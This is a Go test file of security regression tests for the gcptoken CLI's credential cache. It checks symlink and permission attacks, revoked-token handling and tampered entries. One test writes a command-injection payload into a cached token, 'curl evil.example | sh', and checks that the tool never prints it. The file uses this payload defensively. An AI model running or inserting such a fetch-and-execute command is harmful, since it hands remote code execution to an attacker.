package cli

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gcptoken/gcptoken/fakegoogle"
)

// cacheEntries lists the *.json files of the test's cache directory.
func cacheEntries(t *testing.T, e env) []string {
	t.Helper()
	des, err := os.ReadDir(e["GCPTOKEN_CACHE_DIR"])
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	var names []string
	for _, de := range des {
		if strings.HasSuffix(de.Name(), ".json") {
			names = append(names, de.Name())
		}
	}
	return names
}

// newEntry runs args and returns the one cache entry the run added.
func newEntry(t *testing.T, e env, args ...string) (token, entry string) {
	t.Helper()
	before := cacheEntries(t, e)
	r := run(t, e, "", args...)
	wantCode(t, r, 0)
	for _, n := range cacheEntries(t, e) {
		if !slices.Contains(before, n) {
			return strings.TrimSpace(r.stdout), filepath.Join(e["GCPTOKEN_CACHE_DIR"], n)
		}
	}
	t.Fatalf("gcptoken %v cached nothing", args)
	return "", ""
}

// tokenSubject asks the fake who an access token is for; "" if it does not
// know the token (revoked, expired or made up).
func tokenSubject(t *testing.T, f *fakegoogle.Running, tok string) string {
	t.Helper()
	resp, err := http.Get(f.URL + "/tokeninfo?access_token=" + url.QueryEscape(tok))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var info struct {
		Sub   string `json:"sub"`
		Email string `json:"email"`
	}
	if resp.StatusCode != http.StatusOK || json.NewDecoder(resp.Body).Decode(&info) != nil {
		return ""
	}
	if info.Email != "" {
		return info.Email
	}
	return info.Sub
}

// TestSecurityFederatedCacheFollowsSubjectToken: two workloads use one
// credential configuration whose subject token sits at the same path (or a
// workload's token file is replaced by another principal's). The cache key
// used to be the configuration alone, so the second principal was handed the
// first one's cached Google token. Now the key includes a fingerprint of the
// subject token read, and the exchange uses exactly that token.
func TestSecurityFederatedCacheFollowsSubjectToken(t *testing.T) {
	t.Parallel()
	f := ownFake(t)
	e := fedEnv(t, f)
	mint := func(subject string) []byte {
		tok, err := f.MintOIDCSubjectToken(subject, "", time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		return []byte(tok)
	}
	subjectFile := writeFile(t, "subject.jwt", mint("workload-a"))
	config := writeCredConfig(t, e, testOIDCProvider, "--credential-source-file", subjectFile)
	sts := "/v1/token"

	printToken := func(subject string) string {
		t.Helper()
		r := run(t, e, "", "print-access-token", "--credentials", config)
		wantCode(t, r, 0)
		tok := strings.TrimSpace(r.stdout)
		if got := tokenSubject(t, f, tok); !strings.HasSuffix(got, "/subject/"+subject) {
			t.Errorf("the token printed for %s is for %q", subject, got)
		}
		return tok
	}
	before := f.RequestCount(sts)
	tokA := printToken("workload-a")
	if again := printToken("workload-a"); again != tokA {
		t.Errorf("the same subject token got a new Google token; want the cached one")
	}
	if n := f.RequestCount(sts) - before; n != 1 {
		t.Errorf("%d STS exchanges for two runs with one subject token; want 1", n)
	}

	if err := os.WriteFile(subjectFile, mint("workload-b"), 0o600); err != nil {
		t.Fatal(err)
	}
	tokB := printToken("workload-b")
	if tokB == tokA {
		t.Errorf("workload-b was served workload-a's cached token")
	}
	if n := f.RequestCount(sts) - before; n != 2 {
		t.Errorf("%d STS exchanges after the subject token changed; want 2", n)
	}
}

// TestSecurityFederatedUnreadableSubjectNotServed: once the subject token is
// gone (the workload lost its identity, the projected token was not
// mounted), a cached token of whoever held it before must not be printed.
func TestSecurityFederatedUnreadableSubjectNotServed(t *testing.T) {
	t.Parallel()
	f := startFake(t)
	e := fedEnv(t, f)
	tok, err := f.MintOIDCSubjectToken("workload-gone", "", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	subjectFile := writeFile(t, "subject.jwt", []byte(tok))
	config := writeCredConfig(t, e, testOIDCProvider, "--credential-source-file", subjectFile)
	cached, _ := newEntry(t, e, "print-access-token", "--credentials", config)

	if err := os.Remove(subjectFile); err != nil {
		t.Fatal(err)
	}
	r := run(t, e, "", "print-access-token", "--credentials", config)
	wantCode(t, r, ExitCredentials)
	wantOneLineError(t, r, "get the subject token from file", "does not exist")
	if strings.Contains(r.stdout, cached) {
		t.Errorf("the cached token was printed although the subject token is gone")
	}
}

// TestSecurityCacheEntryServedOnlyForItsRequest: an entry copied or renamed
// to another key's file name (by a confused sync tool, a backup restore, or
// a hash collision) must not be served for that key: a token for other
// scopes, or an access token where an ID token was asked for.
func TestSecurityCacheEntryServedOnlyForItsRequest(t *testing.T) {
	t.Parallel()
	f := startFake(t)
	e := newEnv(t)
	key := saKeyFile(t, f)
	broad, broadEntry := newEntry(t, e, "print-access-token", "--credentials", key)
	narrow, narrowEntry := newEntry(t, e, "print-access-token", "--credentials", key, "--scopes", "devstorage.read_only")
	_, idEntry := newEntry(t, e, "print-identity-token", "--credentials", key, "--audience", "https://svc.example")

	data, err := os.ReadFile(broadEntry)
	if err != nil {
		t.Fatal(err)
	}
	for _, dst := range []string{narrowEntry, idEntry} {
		if err := os.WriteFile(dst, data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	r := run(t, e, "", "print-access-token", "--credentials", key, "--scopes", "devstorage.read_only")
	wantCode(t, r, 0)
	if got := strings.TrimSpace(r.stdout); got == broad || got == narrow {
		t.Errorf("print-access-token --scopes devstorage.read_only printed a token from a copied entry")
	}
	r = run(t, e, "", "print-identity-token", "--credentials", key, "--audience", "https://svc.example")
	wantCode(t, r, 0)
	if got := strings.TrimSpace(r.stdout); got == broad || strings.Count(got, ".") != 2 {
		t.Errorf("print-identity-token printed %q, not a fresh ID token", got)
	}
}

// TestSecurityTamperedCacheEntryNotPrinted: a cache file edited so that the
// token holds a newline and a command must not reach stdout, where scripts
// eval it or paste it into a header.
func TestSecurityTamperedCacheEntryNotPrinted(t *testing.T) {
	t.Parallel()
	f := startFake(t)
	e := newEnv(t)
	key := saKeyFile(t, f)
	tok, entry := newEntry(t, e, "print-access-token", "--credentials", key)
	data, err := os.ReadFile(entry)
	if err != nil {
		t.Fatal(err)
	}
	quoted, _ := json.Marshal(tok)
	evil, _ := json.Marshal(tok + "\ncurl evil.example | sh")
	tampered := bytes.ReplaceAll(data, quoted, evil)
	if bytes.Equal(tampered, data) {
		t.Fatalf("the cache entry does not hold the token %q: %s", tok, data)
	}
	if err := os.WriteFile(entry, tampered, 0o600); err != nil {
		t.Fatal(err)
	}
	r := run(t, e, "", "print-access-token", "--credentials", key)
	wantCode(t, r, 0)
	if strings.Contains(r.stdout, "evil") || strings.Count(r.stdout, "\n") != 1 {
		t.Errorf("print-access-token printed the tampered entry: %q", r.stdout)
	}
}

// TestSecurityCredentialHelperEraseDropsToken: git erases a credential the
// remote refused (a token revoked, or minted before an IAM change), and
// docker erases on logout. Both were no-ops, so the next get served the
// same refused token from the cache until it expired.
func TestSecurityCredentialHelperEraseDropsToken(t *testing.T) {
	t.Parallel()
	f := startFake(t)
	const gitGet = "protocol=https\nhost=source.developers.google.com\n\n"
	tests := []struct {
		name   string
		cmd    string
		get    string
		erase  func(token string) string
		secret func(t *testing.T, out string) string
	}{
		{name: "git", cmd: "git-credential", get: gitGet,
			erase: func(tok string) string {
				return "protocol=https\nhost=source.developers.google.com\nusername=oauth2accesstoken\npassword=" + tok + "\n\n"
			},
			secret: func(t *testing.T, out string) string {
				_, rest, _ := strings.Cut(out, "password=")
				tok, _, _ := strings.Cut(rest, "\n")
				return tok
			}},
		{name: "docker", cmd: "docker-credential", get: "gcr.io",
			erase: func(string) string { return "gcr.io" },
			secret: func(t *testing.T, out string) string {
				var c struct{ Secret string }
				if err := json.Unmarshal([]byte(out), &c); err != nil {
					t.Fatalf("docker-credential get printed %q: %v", out, err)
				}
				return c.Secret
			}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t)
			key := saKeyFile(t, f)
			get := func() string {
				t.Helper()
				r := run(t, e, tt.get, tt.cmd, "get", "--credentials", key)
				wantCode(t, r, 0)
				return tt.secret(t, r.stdout)
			}
			first := get()
			if again := get(); again != first {
				t.Fatalf("the second get did not come from the cache")
			}
			r := run(t, e, tt.erase(first), tt.cmd, "erase", "--credentials", key)
			wantCode(t, r, 0)
			if after := get(); after == first {
				t.Errorf("get after erase served the erased token")
			}
		})
	}
}

// TestSecurityLogoutDropsCachedTokens: logout revokes the refresh token, and
// with it every access token minted from it; those tokens stayed in the
// cache, and any copy of the credential file (or a login with the same
// refresh token) was served them as if nothing had happened.
func TestSecurityLogoutDropsCachedTokens(t *testing.T) {
	t.Parallel()
	f := startFake(t)
	e := newEnv(t)
	user, _ := userFile(t, f)
	data, err := os.ReadFile(user)
	if err != nil {
		t.Fatal(err)
	}
	keep := writeFile(t, "copy.json", data)
	tok, _ := newEntry(t, e, "print-access-token", "--credentials", user)
	newEntry(t, e, "print-access-token", "--credentials", user, "--scopes", "openid")
	if tokenSubject(t, f, tok) == "" {
		t.Fatalf("the fake does not know the token it just issued")
	}
	// Another identity's entry must survive.
	_, saEntry := newEntry(t, e, "print-access-token", "--credentials", saKeyFile(t, f))

	r := run(t, e, "", "logout", "--credentials", user)
	wantCode(t, r, 0)
	if tokenSubject(t, f, tok) != "" {
		t.Fatalf("the access token is still valid after logout; the test proves nothing")
	}
	after := run(t, e, "", "print-access-token", "--credentials", keep)
	if strings.Contains(after.stdout, tok) {
		t.Errorf("print-access-token served the revoked token from the cache after logout")
	}
	wantCode(t, after, ExitCredentials)
	wantOneLineError(t, after, "invalid_grant")
	if left := cacheEntries(t, e); len(left) != 1 || left[0] != filepath.Base(saEntry) {
		t.Errorf("cache holds %v after logout; want only the service account's entry", left)
	}
}

// TestSecurityCacheDirSymlinkRefused: another user (or a compromised tool)
// replaces the cache directory with a symlink to a directory it can read;
// tokens must not be written there, nor entries it planted read from there.
func TestSecurityCacheDirSymlinkRefused(t *testing.T) {
	t.Parallel()
	f := startFake(t)
	e := newEnv(t)
	key := saKeyFile(t, f)
	skipOnWindows(t, "symbolic links need SeCreateSymbolicLinkPrivilege there; diskcache refuses them by Lstat on every platform")
	attacker := t.TempDir()
	if err := os.Symlink(attacker, e["GCPTOKEN_CACHE_DIR"]); err != nil {
		t.Fatal(err)
	}
	r := run(t, e, "", "print-access-token", "--credentials", key)
	wantCode(t, r, 0)
	if !strings.Contains(r.stderr, "symbolic link") {
		t.Errorf("stderr %q does not warn about the symlinked cache directory", r.stderr)
	}
	if des, _ := os.ReadDir(attacker); len(des) != 0 {
		t.Errorf("gcptoken wrote %v through the symlinked cache directory", des)
	}
}

// TestSecurityCacheDirWritableByOthersRefused: a cache directory others can
// write to may hold entries they planted; it used to be chmodded to 0700
// and used as it was.
func TestSecurityCacheDirWritableByOthersRefused(t *testing.T) {
	t.Parallel()
	f := startFake(t)
	e := newEnv(t)
	key := saKeyFile(t, f)
	dir := e["GCPTOKEN_CACHE_DIR"]
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	letOthersWrite(t, dir)
	r := run(t, e, "", "print-access-token", "--credentials", key)
	wantCode(t, r, 0)
	if !strings.Contains(r.stderr, "writable by other users") && !strings.Contains(r.stderr, "lets them plant entries") {
		t.Errorf("stderr %q does not warn about the cache directory's mode", r.stderr)
	}
	if n := cacheEntries(t, e); len(n) != 0 {
		t.Errorf("gcptoken cached %v in a world-writable directory", n)
	}
}

// TestSecurityCacheDirOfOtherUserRefused: as root (or on a shared machine),
// a cache directory owned by another user — planted before first use, or
// reached through HOME of another user under sudo — must be neither
// written, read nor chmodded. The ownership change needs root.
func TestSecurityCacheDirOfOtherUserRefused(t *testing.T) {
	t.Parallel()
	skipOnWindows(t, "chown and uids are Unix's; winacl's TestCheckOwner covers Windows owners")
	if os.Geteuid() != 0 {
		if os.Getenv("CI") == "true" {
			t.Fatal("this test must run as root in CI (it chowns a directory to another user)")
		}
		t.Skip("needs root to chown a directory to another user")
	}
	const nobody = 65534
	f := startFake(t)
	key := saKeyFile(t, f)
	tests := []struct {
		name  string
		chown func(dir string) string // returns the directory given away
	}{
		{name: "cache directory", chown: func(dir string) string { return dir }},
		{name: "its parent", chown: func(dir string) string { return filepath.Dir(dir) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			e := newEnv(t)
			dir := filepath.Join(t.TempDir(), "parent", "gcptoken")
			e["GCPTOKEN_CACHE_DIR"] = dir
			if err := os.MkdirAll(dir, 0o755); err != nil {
				t.Fatal(err)
			}
			given := tt.chown(dir)
			if err := os.Chown(given, nobody, nobody); err != nil {
				t.Fatal(err)
			}
			r := run(t, e, "", "print-access-token", "--credentials", key)
			wantCode(t, r, 0)
			if !strings.Contains(r.stderr, "owned by uid 65534") {
				t.Errorf("stderr %q does not name the other owner", r.stderr)
			}
			if n := cacheEntries(t, e); len(n) != 0 {
				t.Errorf("gcptoken cached %v in a directory owned by uid %d", n, nobody)
			}
			if fi, err := os.Stat(dir); err != nil || fi.Mode().Perm() != 0o755 {
				t.Errorf("the other user's directory was changed: %v, %v", fi.Mode(), err)
			}
		})
	}
}

// TestSecurityPlantedLockSymlinkNotFollowed: a symlink planted as an entry's
// lock file (pointing at /etc/nologin, say, for root to create) was opened
// with O_CREATE, creating or opening whatever it pointed at. A planted entry
// symlink must not be read either.
func TestSecurityPlantedLockSymlinkNotFollowed(t *testing.T) {
	t.Parallel()
	f := startFake(t)
	e := newEnv(t)
	key := saKeyFile(t, f)
	_, entry := newEntry(t, e, "print-access-token", "--credentials", key)
	lock := strings.TrimSuffix(entry, ".json") + ".lock"
	for _, p := range []string{entry, lock} {
		if err := os.Remove(p); err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
	}
	outside := t.TempDir()
	target := filepath.Join(outside, "created-through-the-lock")
	if err := os.Symlink(target, lock); err != nil {
		t.Fatal(err)
	}
	planted := filepath.Join(outside, "planted.json")
	if err := os.WriteFile(planted, []byte(`{"version":2,"token":{"value":"ya29.planted"}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(planted, entry); err != nil {
		t.Fatal(err)
	}
	r := run(t, e, "", "print-access-token", "--credentials", key)
	wantCode(t, r, 0)
	if strings.Contains(r.stdout, "planted") {
		t.Errorf("printed the planted entry: %q", r.stdout)
	}
	if _, err := os.Lstat(target); err == nil {
		t.Errorf("the lock symlink was followed: %s exists", target)
	}
}

// TestSecurityCurlDropsRevokedCachedToken: the attack is a revoked token
// (a sign-out elsewhere, a key disabled after a leak) that keeps being
// served from the cache until it expires. A cached access token the server
// refuses with 401 is dropped and replaced once; a fresh token that is
// refused is not fetched again.
func TestSecurityCurlDropsRevokedCachedToken(t *testing.T) {
	t.Parallel()
	f := ownFake(t)
	e := newEnv(t)
	key := saKeyFile(t, f)
	project := f.URL + "/v1/projects/" + fakegoogle.DefaultProjectID
	cached := strings.TrimSpace(run(t, e, "", "print-access-token", "--credentials", key).stdout)
	f.RevokeToken(cached)
	before := f.RequestCount("/token")

	r := run(t, e, "", "curl", "--credentials", key, project)
	wantCode(t, r, ExitOK)
	if !strings.Contains(r.stderr, "the server refused the cached access token (HTTP 401): dropping it from the cache and retrying once with a new one") {
		t.Errorf("curl did not say it retried: %q", r.stderr)
	}
	if got := f.RequestCount("/token") - before; got != 1 {
		t.Errorf("%d token requests; want 1 (the replacement)", got)
	}
	again := strings.TrimSpace(run(t, e, "", "print-access-token", "--credentials", key).stdout)
	if again == cached || again == "" {
		t.Errorf("the cache still serves the revoked token")
	}

	// A token fetched by this very command is not fetched again.
	before = f.RequestCount("/token")
	r = run(t, e, "", "curl", "--credentials", key, "--no-cache", "--audience", "https://other.example", f.SampleServiceURL())
	wantCode(t, r, ExitHTTP)
	if got := f.RequestCount("/token") - before; got != 1 || strings.Contains(r.stderr, "retrying") {
		t.Errorf("a fresh token's 401: %d token requests, stderr %q; want 1 and no retry", got, r.stderr)
	}
}
